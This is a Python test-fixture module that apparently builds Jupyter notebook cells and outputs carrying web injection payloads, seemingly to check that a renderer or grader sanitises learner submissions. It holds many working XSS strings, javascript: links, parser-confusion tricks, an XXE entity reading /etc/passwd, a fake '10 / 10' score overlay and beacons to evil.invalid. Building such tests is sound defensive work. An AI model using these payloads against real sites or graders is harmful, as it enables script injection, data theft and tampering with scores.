"""Markup that tries to run, to load or to lead away, and the places where a learner can put it."""

from collections.abc import Iterator
from dataclasses import dataclass

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

MARK = "__pwned"
"""A script that runs sets this property of the window, and asks a server for something."""
RUN = f"window.{MARK}=1;new Image().src='https://evil.invalid/run'"
SHORT = f"<img src=x onerror={MARK}=1>"
"""Fits where a name is cut at 40 characters, and into a file's name."""
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://evil.invalid/a.js></SCRIPT><scr<script>ipt>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<img/src="x"/onerror="{RUN}">',
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f'<IMG SRC=x OnErRoR="{RUN}" alt="a>b">',
    f'<svg onload="{RUN}"><circle r=5></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "<svg><image href=https://evil.invalid/a.png /><use href=https://evil.invalid/a.svg#x /></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;">',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
    f'<math href="javascript:{RUN}"><mtext>click</mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}=1>">',
    f'<style><img src="</style><img src=x onerror={MARK}=1>"></style>',
    f'<textarea><img title="</textarea><img src=x onerror={MARK}=1>">',
    f'<xmp><p title="</xmp><img src=x onerror={MARK}=1>">',
    f"<!--><img src=x onerror={MARK}=1>-->",
    f"<!--a--!><img src=x onerror={MARK}=1>-->",
    f"<![CDATA[><img src=x onerror={MARK}=1>]]>",
    f"<?xml ><img src=x onerror={MARK}=1>?>",
    f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><iframe src=https://evil.invalid/frame></iframe>',
    f'<object data="data:text/html,<script>parent.{MARK}=1</script>"></object><embed src=https://evil.invalid/e>',
    "<frameset><frame src=https://evil.invalid/f></frameset>",
    f'<form action="https://evil.invalid/f"><input name=a autofocus onfocus="{RUN}"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}" autofocus onfocus="{RUN}">x</button>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<div style="animation: a 1s" onanimationstart="{RUN}">x</div><style>@keyframes a {{}}</style>',
    f'<body onload="{RUN}" background=https://evil.invalid/b.png><marquee onstart="{RUN}">x</marquee>',
    f'<video src=x onerror="{RUN}" poster=https://evil.invalid/p.png></video><audio src=https://evil.invalid/a.ogg autoplay>',
    f'<video><source src=x onerror="{RUN}"></video><picture><source srcset=https://evil.invalid/s.png><img></picture>',
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/refresh">',
    '<meta http-equiv=Content-Security-Policy content="default-src *"><base href=https://evil.invalid/>',
    "<link rel=stylesheet href=https://evil.invalid/a.css><link rel=prefetch href=https://evil.invalid/p>",
    '<style>@import "https://evil.invalid/i.css"; body { background: url(https://evil.invalid/bg.png) }</style>',
    "<style>.x { color: red } } body { display: none } @font-face { font-family: a; src: url(https://evil.invalid/f) }</style>",
    "<style>p { background: image-set('https://evil.invalid/set.png' 1x) } a { content: url(//evil.invalid/c) }</style><p>x</p>",
    '<p style="background:url(https://evil.invalid/u.png);list-style:url(//evil.invalid/l)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Score: 10 / 10</p>',
    r'<p style="b\61 ckground:u\72l(https://evil.invalid/escaped.png)">x</p>',
    "<img src=https://evil.invalid/pixel.png><img srcset='https://evil.invalid/s.png 1x'><img src=//evil.invalid/x>",
    "<img src=/logout><img src='file:///etc/passwd'><img src=files/evil.svg>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.{MARK}=1'/>\">",
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}" tabindex=0>x</a>',
    f'<a href="&#106;avascript&colon;{RUN}">x</a><a href="java&Tab;script:{RUN}">x</a><a href="\x01javascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a><a href="vbscript:x">x</a><a href="view-source:x">x</a>',
    "<a href=/api/contents ping=https://evil.invalid/ping>x</a><a href=../../evil.html target=_top>x</a>",
    '<a id=base_url name=MathJax href="https://e.org" data-commandlinker-command="terminal:create-new">x</a>',
    '<div id=check_first class="nbgrader_cell navbar-fixed-top modal"><input class="score tabbable" id=check_first></div>',
    f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    f'<x-a onclick={RUN!r} contenteditable autofocus onfocus="{RUN}" tabindex=1>x</x-a>',
    f'</div></div></div></pre></td></table><img src=x onerror="{RUN}">',
    f'"></textarea></title></style></script><img src=x onerror="{RUN}">',
    f"<div title='{SHORT}",
    f"<div x onpointerover={MARK}=1 ",
    f'<p onpointerenter="{RUN}">a',
    f"<select><option><style></option></select><img src=x onerror={MARK}=1></style>",
    f"<table><td background=https://evil.invalid/td.png><img src=x onerror={MARK}=1></table>",
    f"<plaintext><img src=x onerror={MARK}=1>",
    f"{{{{ self.__init__ }}}}{{% raw %}}{SHORT}",
]
"""HTML for every place that shows HTML or markdown."""

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}> 'title')",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x](JaVaScRiPt&colon;{RUN}) <javascript:{MARK}=1>",
    f"[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQu{MARK}PC9zY3JpcHQ+)",
    f'![x](x"onerror="{MARK}=1)',
    f"![x](x 'a\" onerror=\"{MARK}=1')",
    f"![{SHORT}](https://evil.invalid/md.png)",
    "![x](https://evil.invalid/md.png) ![y][1]\n\n[1]: //evil.invalid/ref.png",
    "![x](attachment:missing.png) ![y][1]\n\n[1]: attachment:gone.png",
    f"$$ {SHORT} $$ and ${SHORT}$",
    f"<div>$$</div>{SHORT}$$",
    f"$$\n\n{SHORT}\n\n$$",
    f"\\begin{{equation}}{SHORT}\\end{{equation}}",
    rf"$\href{{javascript:{RUN}}}{{x}}$ $\unicode{{<img src=x onerror={MARK}=1>}}$ $\require{{html}}\style{{position:fixed}}{{x}}$",
    f"```html\n{SHORT}\n```\n\n`{SHORT}`\n\n    {SHORT}",
    f"```<b onclick={MARK}=1>\nx\n```",
    f"# {SHORT} <b id=base_url>",
    f"| {SHORT} |\n|---|\n| [x](javascript:{MARK}=1) |",
    f"- [ ] {SHORT}\n1. <b onmouseover={MARK}=1>x</b>",
    f"text\n\n<div>\n\n{SHORT}\n\n</div>",
    f"> <svg\n> onload={MARK}=1>",
    f"**a**\\{SHORT} &lt;img src=x onerror={MARK}=1&gt;",
    f'```mermaid\ngraph LR; A["{SHORT}"]-->B; click A "javascript:{MARK}=1"\n```',
]

SVG = [
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><circle r="9"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{SHORT}</body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.invalid/i.png"/></svg>',
    f'"><script>{RUN}</script>',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.invalid/s.css)</style><rect fill="url(https://evil.invalid/f)"/></svg>',
]

WIDGET = "application/vnd.jupyter.widget-view+json"
BUNDLES = [
    ({"application/javascript": RUN, "text/plain": "x"}, {}),
    ({"application/javascript": RUN}, {}),
    ({"text/javascript": RUN, "application/ecmascript": RUN}, {}),
    ({"text/vnd.mermaid": f'graph LR; A["{SHORT}"]'}, {}),
    ({"application/pdf": "JVBERi0=", "text/plain": SHORT}, {}),
    ({"application/vnd.bokehjs_exec.v0+json": "", "text/html": f"<script>{RUN}</script>"}, {}),
    ({"text/html": f"<script>{RUN}</script>"}, {"text/html": {"isolated": True}, "isolated": True}),
    ({WIDGET: {"model_id": f"</script>{SHORT}", "version_major": 2}, "text/plain": "x"}, {}),
    ({WIDGET: 5, "text/plain": "x"}, {}),
    ({WIDGET: [1]}, {}),
    ({"application/json": {"a": SHORT}}, {}),
    ({f"text/{SHORT}": "x"}, {}),
    ({"image/png": PNG, "text/plain": SHORT}, {"image/png": {"width": f'1" onerror="{MARK}=1', "height": SHORT}}),
    ({"image/png": PNG}, {"image/png": {"alt": f'"><img src=x onerror={MARK}=1>', "unconfined": SHORT}}),
    ({"image/png": PNG}, {"width": f"1 onload={MARK}=1", "height": f"1 onload={MARK}=1"}),
    ({"image/png": PNG}, {"filenames": {"image/png": f'https://evil.invalid/f.png" onerror="{MARK}=1'}}),
    ({"image/png": f'{PNG}"><script>{RUN}</script>'}, {}),
    ({"image/png": "AAAA"}, {"image/png": 5}),
    ({"image/png": PNG}, {"image/png": [1]}),
    ({"image/jpeg": f'/9j/" onerror="{MARK}=1'}, {"image/jpeg": "x"}),
    ({"image/svg+xml": 5, "text/html": 7, "text/markdown": None, "text/latex": [1]}, {}),
    ({"text/latex": f"$${SHORT}$$"}, {}),
    ({"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}\unicode{{x3c}}\text{{{SHORT}}}$"}, {}),
    ({"text/latex": f"</div>{SHORT}"}, {}),
    ({"text/markdown": "![x](attachment:x.png)"}, {}),
    ({}, {}),
]
"""(data, metadata) of outputs."""

ATTACHMENTS = [
    ("![x](attachment:a.png)", {"a.png": {"image/png": f'{PNG}" onerror="{MARK}=1'}}),
    ("![x](attachment:a.png)", {"a.png": {f'image/png"onerror="{MARK}=1': PNG}}),
    ("![x](attachment:a.html)", {"a.html": {"text/html": "PHNjcmlwdD4="}}),
    ("![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": f"<svg onload={MARK}=1>"}}),
    (f'![x](attachment:x"onerror="{MARK}=1)', {f'x"onerror="{MARK}=1': {"image/png": PNG}}),
    ("![x](attachment:a.png)", {"a.png": 5}),
    ("![x](attachment:a.png)", {"a.png": {}}),
    ("![x](attachment:a.png)", {"a.png": {"image/png": ""}}),
]

TEXTS = [
    f"print({SHORT!r})",
    f"print('\\x1b[31m{SHORT}\\x1b[0m \\x1b]8;;javascript:{MARK}=1\\x07x\\x1b]8;;\\x07')",
    f"import sys; print('</pre><script>{MARK}=1</script>', file=sys.stderr)",
    f"raise type({SHORT!r}, (Exception,), {{}})({SHORT!r})",
    f"raise ValueError('</pre>{SHORT}')",
    f"'</pre></div><script>{MARK}=1</script>' # {SHORT}",
    f"%%html\n<script>{MARK}=1</script>",
    f"%%javascript\nwindow.{MARK}=1",
    f"class A:\n    def _repr_html_(self): return {SHORT!r}\n    def __repr__(self): return {SHORT!r}\nA()",
]
"""Code cells whose own text, stream or error is the attack."""


@dataclass(frozen=True)
class Attempt:
    """An injection in its place.

    Args:
        place: one of the ways in which a learner's text comes onto a page.
        cell: what is submitted; the output is what its source displays.
        output: (data, metadata) or None.
    """

    place: str
    cell: dict
    output: tuple | None = None


def attempts() -> Iterator[Attempt]:
    """Every injection in every place for it."""
    for text in [*HTML, *MARKDOWN]:
        yield Attempt("markdown cell", new_markdown_cell(text))
        yield Attempt("raw cell", new_raw_cell(text, metadata={"raw_mimetype": "text/html", "format": "text/html"}))
        yield Attempt("markdown output", _showing({"text/markdown": text}), ({"text/markdown": text}, {}))
    for text in HTML:
        yield Attempt("html output", _showing({"text/html": text}), ({"text/html": text}, {}))
    for text in SVG:
        yield Attempt("svg", _showing({"image/svg+xml": text}), ({"image/svg+xml": text}, {}))
    for data, metadata in BUNDLES:
        yield Attempt("bundle", _showing(data, metadata), (data, metadata))
    for source, attachments in ATTACHMENTS:
        cell = new_markdown_cell(source)
        cell["attachments"] = attachments  # not all of them are what nbformat would take
        yield Attempt("attachment", cell)
    for source in TEXTS:
        tags = {"tags": [SHORT, f'" onload="{MARK}=1'], "name": SHORT, "nbgrader_": SHORT}
        yield Attempt("text", new_code_cell(source, metadata=tags))


def _showing(data: dict, metadata: dict | None = None) -> dict:
    """A code cell that shows this, whatever IPython thinks of it."""
    return new_code_cell(f"from IPython.display import display\ndisplay({data!r}, metadata={metadata!r}, raw=True)")
